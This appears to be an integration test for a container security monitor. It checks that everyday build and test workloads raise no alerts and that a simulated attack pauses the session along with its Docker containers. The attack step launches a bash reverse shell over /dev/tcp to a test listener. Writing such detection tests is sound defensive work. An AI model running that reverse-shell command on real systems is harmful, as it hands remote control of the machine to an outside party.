// Goal: everyday project work is never paused and raises no alert with default thresholds; an attack in the same
// session is paused together with Docker's containers in it.
// Method: one monitored session of the default image, without a registry.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parseStat } from '../../src/host/proc/processes.ts';
import { defaultImage } from '../../src/image/versions.ts';
import { defaultSettings } from '../../src/monitor/settings.ts';
import { dockerConfig } from '../../src/session/plan/kernel-surface.ts';
import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
import { startAttacker } from '../security/attacker.ts';
import { untilAudited } from '../security/audited.ts';
import { tinyImage } from './tiny-image.ts';

const image = process.env['COI_DEFAULT_IMAGE'] ?? defaultImage;

/** May run twice (see `execCaptured`). */
const work: Readonly<Record<string, string>> = {
  'npm ci, with scripts of packages': `mkdir -p ~/app && cd ~/app
for i in $(seq 1 40); do mkdir -p packs/p$i; echo '{"name":"p'$i'","version":"1.0.0","scripts":{"postinstall":"node -e 0"}}' > packs/p$i/package.json; done
node -e 'const d = {}; for (let i = 1; i <= 40; i += 1) d["p" + i] = "file:packs/p" + i; require("fs").writeFileSync("package.json", JSON.stringify({ name: "app", version: "1.0.0", dependencies: d }))'
npm install --offline --package-lock-only --no-audit --no-fund --loglevel=error >/dev/null && npm ci --offline --no-audit --no-fund --loglevel=error >/dev/null`,
  'make with many jobs, which compiles and links': `mkdir -p ~/c && cd ~/c
for i in $(seq 1 60); do printf '#include <stdio.h>\\nint f%s(int x) { return x * %s; }\\n' $i $i > f$i.c; done; echo 'int main(void) { return 0; }' > main.c
printf 'all: $(patsubst %%.c,%%.o,$(wildcard *.c))\\n\\tgcc -o all $^\\n' > Makefile && make -s -j32 && ./all`,
  'tests with a pool of workers':
    'python3 -c "import multiprocessing as m, zlib; p = m.Pool(24); p.map(zlib.crc32, [bytes(100000)] * 500); p.close()"',
  'a repository, packed and cloned':
    'rm -rf ~/r ~/r2 && git init -q ~/r && cd ~/r && for i in $(seq 1 300); do echo $i > f$i; done && git add . && git -c user.name=a -c user.email=a@b commit -qm x && git gc -q --aggressive && git clone -q . ~/r2',
  'a copy of two gigabytes': 'cd ~ && truncate -s 2G a && cat a > b && cat b | wc -c && rm a b',
  'a build of Docker': `${tinyImage}
cd "$(mktemp -d)" && printf 'FROM tiny\\nRUN ["/bin/busybox","touch","/made"]\\n' >Dockerfile && docker build --quiet --tag made . >/dev/null && docker run --rm made /bin/busybox ls /made`,
  'a development server, asked by its own machine': `cd ~ && (node -e 'require("http").createServer((q, s) => s.end("served")).listen(3000)' >/dev/null 2>&1 & echo $! > server.pid)
for i in $(seq 1 100); do curl -s --retry 20 --retry-connrefused --retry-delay 1 http://127.0.0.1:3000/ >/dev/null; done; kill $(cat server.pid)`,
};

test('ordinary work raises no alert; an attack meanwhile is paused at once, together with Docker containers', {
  timeout: 600_000,
}, async () => {
  await using bed = await makeCoidBed();
  const monitor = JSON.stringify({ ...defaultSettings, killGraceMs: 600_000 });
  const { container, nic } = await bed.session({
    image,
    config: { ...dockerConfig(true), 'user.coi.monitor': monitor },
  });
  await untilAudited(bed.coid, container, ({ action }) => action === 'watch-started');
  for (const [name, script] of Object.entries(work)) {
    const done = await agent(bed, container, script);
    assert.equal(done.status, 0, `${name}: ${done.stderr}`);
  }
  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
  const alarms = lines.map((line) => JSON.parse(line)).filter(({ level }) => level !== 'info');
  assert.deepEqual(alarms, []);
  await agent(
    bed,
    container,
    'docker run -d tiny /bin/busybox sh -c ": busy-in-docker; while :; do :; done" >/dev/null',
  );
  const pid = pidOf('busy-in-docker');
  assert.ok((await ticksMeanwhile(bed, container, pid)) > 0, 'it runs');
  await using remote = await startAttacker();
  const paused = bed.lifecycle.until('instance-paused', container);
  const shell = `bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1`;
  await agent(bed, container, `setsid bash -c '${shell}' >/dev/null 2>&1 </dev/null &`);
  await paused;
  assert.equal(await ticksMeanwhile(bed, container, pid), 0, 'it is paused');
});

function agent({ incus }: CoidBed, container: string, script: string) {
  const environment = { HOME: '/home/code', USER: 'code' };
  const execOptions = { environment, cwd: '/home/code', user: 1000, group: 1000 };
  return incus.execCaptured(container, { command: ['bash', '-lc', script], ...execOptions });
}

/** Host pid. */
function pidOf(mark: string): number {
  const found = readdirSync('/proc').find((name) => {
    try {
      return /^\d+$/.test(name) && shellOf(name).includes(mark);
    } catch {
      return false;
    }
  });
  assert.ok(found, `no process with ${mark}`);
  return Number(found);
}

/** The command line of a busybox shell; empty for others, such as the one that asked Docker for it. */
function shellOf(pid: string): string {
  const line = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  return line.startsWith('/bin/busybox\0') ? line : '';
}

/** CPU time that a process used during some fifty requests to Incus. */
async function ticksMeanwhile(bed: CoidBed, container: string, pid: number): Promise<number> {
  const ticks = () => parseStat(readFileSync(`/proc/${pid}/stat`, 'utf8'))?.cpuTicks ?? 0;
  const before = ticks();
  for (let attempts = 0; attempts < 50; attempts += 1) await bed.status(container);
  return ticks() - before;
}
